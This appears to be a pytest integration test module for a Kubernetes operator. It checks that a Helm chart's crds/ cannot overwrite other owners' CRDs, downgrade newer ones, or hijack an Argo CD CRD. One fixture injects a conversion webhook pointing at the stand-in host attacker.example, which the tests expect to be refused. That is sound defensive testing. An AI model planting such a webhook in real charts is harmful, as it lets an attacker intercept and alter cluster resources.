"""A chart's crds/ writes only its component's CRDs, never another owner's, never older ones.

Whoever serves the chart repository decides what crds/ holds; the product
applies it before Helm, outside the release, with force. Each case here is a
release carried out as the operator carries it out (``StackActions``), with
the real helm reading a chart served on loopback and a real API server:
the chart's crds/ brings an Argo CD CRD with a conversion webhook, an
older CRD than the one the release applied before, or a CRD the cluster's
owner installed. Each is refused, with a Warning event and the component
failed, before Helm runs, and nothing of the set is applied.

Each case uses a component of its own, so the module shares one API server.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from lightkube import Client, KubeConfig
from lightkube.core.exceptions import ApiError
from lightkube.resources.apiextensions_v1 import CustomResourceDefinition
from tests.integration.hubs import client_for, private_env
from tests.integration.substrate import Helm as FixtureHelm
from tests.integration.substrate import crd
from tests.serving import serve_directory
from tests.testenv import TestEnv

from modelplane.actions.helm import Helm
from modelplane.kube.client import Target, open_target
from modelplane.operator.component_failures import ComponentFailures
from modelplane.operator.options import OperatorOptions
from modelplane.operator.release_records import ReleaseRecords
from modelplane.operator.stack_actions import StackActions
from modelplane.plan.model import PlannedRelease, ReleaseAction, ReleaseState

GEN = "controller-gen.kubebuilder.io/version"
ARGO = ("argoproj.io", "v1alpha1", "applications", "Application", True)
LWS = ("leaderworkerset.x-k8s.io", "v1", "leaderworkersets", "LeaderWorkerSet", True)
NFD = ("nfd.k8s-sigs.io", "v1alpha1", "nodefeatures", "NodeFeature", True)
PCS = ("grove.io", "v1alpha1", "podcliquesets", "PodCliqueSet", True)
PCLQ = ("grove.io", "v1alpha1", "podcliques", "PodClique", True)


def _name(spec: tuple[str, str, str, str, bool]) -> str:
    return f"{spec[2]}.{spec[0]}"


def _annotated(body: dict[str, Any], **annotations: str) -> dict[str, Any]:
    body["metadata"].setdefault("annotations", {}).update(annotations)
    return body


def _with_conversion_webhook(body: dict[str, Any]) -> dict[str, Any]:
    body["spec"]["conversion"] = {
        "strategy": "Webhook",
        "webhook": {
            "conversionReviewVersions": ["v1"],
            "clientConfig": {"url": "https://attacker.example/convert"},
        },
    }
    return body


# chart -> version -> the CRDs of its crds/.
CHARTS: dict[str, dict[str, list[dict[str, Any]]]] = {
    # The component's own CRD, and an Argo CD one given a conversion webhook.
    "lws": {"1.0.0": [crd(*LWS), _with_conversion_webhook(crd(*ARGO))]},
    # The release's CRD at two generator versions, the older one field short.
    "node-feature-discovery": {
        "2.0.0": [_annotated(crd(*NFD), **{GEN: "v0.17.0"})],
        "1.0.0": [_annotated(crd(*NFD, fields=("before",)), **{GEN: "v0.16.0"})],
    },
    # One CRD the cluster's owner installed, one nobody has.
    "grove-charts": {"1.0.0": [crd(*PCS), crd(*PCLQ)]},
}
COMPONENTS = {
    "lws": ("leader-worker-set", "lws"),
    "node-feature-discovery": ("node-feature-discovery", "node-feature-discovery"),
    "grove-charts": ("grove", "grove-system"),
}


def _write_chart(root: Path, name: str, version: str, crds: list[dict[str, Any]]) -> Path:
    chart = root / f"{name}-{version}"
    (chart / "crds").mkdir(parents=True)
    (chart / "Chart.yaml").write_text(
        yaml.safe_dump({"apiVersion": "v2", "name": name, "version": version})
    )
    (chart / "crds" / "crds.yaml").write_text(yaml.safe_dump_all(crds))
    return chart


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestEnv]:
    with private_env(tmp_path_factory.mktemp("chart-crd-owners")) as made:
        yield made


@pytest.fixture(scope="module")
def repository(helm: FixtureHelm, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    sources = tmp_path_factory.mktemp("sources")
    served = tmp_path_factory.mktemp("served")
    for name, versions in CHARTS.items():
        for version, crds in versions.items():
            chart = _write_chart(sources, name, version, crds)
            helm.run("package", str(chart), "--destination", str(served))
    with serve_directory(served) as url:
        helm.run("repo", "index", str(served), "--url", url)
        yield url


class _Actions(StackActions):
    """The operator's release path alone, with its failures and events kept."""

    def __init__(self, helm: Helm) -> None:
        self.events: list[tuple[str, str, str]] = []

        def emit(kind: str, reason: str, message: str) -> None:
            self.events.append((kind, reason, message))

        # The release records (operator.release_records), empty: a first install.
        super().__init__(
            helm,
            OperatorOptions(),
            emit,
            "chart-crd-owners",
            ComponentFailures(emit),
            ReleaseRecords(emit),
        )


@pytest.fixture
def actions(testbin: dict[str, Path], tmp_path: Path) -> _Actions:
    return _Actions(Helm(str(testbin["helm"]), tmp_path / "helm-home", 60))


@contextlib.asynccontextmanager
async def _target(env: TestEnv) -> AsyncIterator[Target]:
    """The product's connection to the API server, as the operator opens one."""
    # A loopback server: nothing is denied.
    opened = await open_target(
        KubeConfig.from_dict(env.kubeconfig).get(),
        deny=(),
        trust_env=False,
        kubeconfig=yaml.safe_dump(env.kubeconfig),
    )
    try:
        yield opened
    finally:
        await opened.close()


async def _carry(actions: _Actions, release: PlannedRelease, target: Target) -> bool:
    """One release carried out as a round's plan carries it: the product's own, nothing adopted."""
    return await actions._release(
        release, target, frozenset({(release.name, release.namespace)}), frozenset(), "0s"
    )


def _release(chart: str, version: str, repository: str, action: ReleaseAction) -> PlannedRelease:
    component, namespace = COMPONENTS[chart]
    return PlannedRelease(
        component=component,
        name=f"mp-{chart}",
        chart=chart,
        repository=repository,
        version=version,
        namespace=namespace,
        values={},
        wait=False,
        depends_on=[],
        digest=f"{chart}-{version}",
        state=ReleaseState.ABSENT if action is ReleaseAction.INSTALL else ReleaseState.OUT_OF_SYNC,
        action=action,
    )


def _live(client: Client, name: str) -> dict[str, Any] | None:
    try:
        return client.get(CustomResourceDefinition, name).to_dict()
    except ApiError as err:
        if err.status.code == 404:
            return None
        raise


def _fields(body: dict[str, Any]) -> set[str]:
    (version,) = body["spec"]["versions"]
    return set(version["schema"]["openAPIV3Schema"]["properties"]["fixture"]["properties"])


def _refused(actions: _Actions, component: str, *words: str) -> None:
    """The component failed, and a Warning event said so, naming ``words``."""
    failure = actions.component_failures.failures.get(component, "")
    warnings = [m for kind, _, m in actions.events if kind == "Warning"]
    for word in words:
        assert word in failure, failure
        assert any(word in m for m in warnings), actions.events
    assert not any(reason.endswith("Succeeded") for _, reason, _ in actions.events)


async def test_a_crd_of_another_group_is_refused_and_nothing_of_the_set_applied(
    env: TestEnv, repository: str, actions: _Actions
) -> None:
    argocd = client_for(env, field_manager="argocd")
    argocd.apply(CustomResourceDefinition.from_dict(crd(*ARGO)))
    before = _live(argocd, _name(ARGO))

    async with _target(env) as target:
        ok = await _carry(
            actions, _release("lws", "1.0.0", repository, ReleaseAction.INSTALL), target
        )

    assert not ok
    _refused(actions, "leader-worker-set", _name(ARGO), "API group argoproj.io")
    after = _live(argocd, _name(ARGO))
    assert after is not None and before is not None
    assert after["spec"]["conversion"] == before["spec"]["conversion"] == {"strategy": "None"}
    assert after["metadata"]["generation"] == before["metadata"]["generation"]
    # Its own CRD of the same set is not applied either.
    assert _live(argocd, _name(LWS)) is None


async def test_a_newer_crd_is_not_downgraded(
    env: TestEnv, repository: str, actions: _Actions
) -> None:
    async with _target(env) as target:
        assert await _carry(
            actions,
            _release("node-feature-discovery", "2.0.0", repository, ReleaseAction.INSTALL),
            target,
        ), actions.component_failures.failures
        reader = client_for(env)
        newer = _live(reader, _name(NFD))
        assert newer is not None and _fields(newer) == {"before", "after"}
        actions.events.clear()

        ok = await _carry(
            actions,
            _release("node-feature-discovery", "1.0.0", repository, ReleaseAction.UPGRADE),
            target,
        )

    assert not ok
    # The conflict scan, before any write, is the first to see the downgrade.
    _refused(
        actions,
        "node-feature-discovery",
        _name(NFD),
        "newer on the cluster than the chart's",
        "v0.17.0",
    )
    after = _live(reader, _name(NFD))
    assert after is not None
    assert _fields(after) == {"before", "after"}
    assert after["metadata"]["annotations"][GEN] == "v0.17.0"
    assert after["metadata"]["generation"] == newer["metadata"]["generation"]


async def test_a_crd_of_another_owner_is_not_overwritten(
    env: TestEnv, repository: str, actions: _Actions
) -> None:
    owner = client_for(env, field_manager="cluster-owner")
    owner.apply(CustomResourceDefinition.from_dict(crd(*PCS, fields=("before",))))
    before = _live(owner, _name(PCS))
    assert before is not None

    async with _target(env) as target:
        ok = await _carry(
            actions, _release("grove-charts", "1.0.0", repository, ReleaseAction.INSTALL), target
        )

    assert not ok
    _refused(actions, "grove", _name(PCS), "written by cluster-owner")
    after = _live(owner, _name(PCS))
    assert after is not None
    assert _fields(after) == {"before"}
    assert after["metadata"]["generation"] == before["metadata"]["generation"]
    assert "labels" not in after["metadata"]
    # Nothing of the set: the CRD nobody had is not created either.
    assert _live(owner, _name(PCLQ)) is None
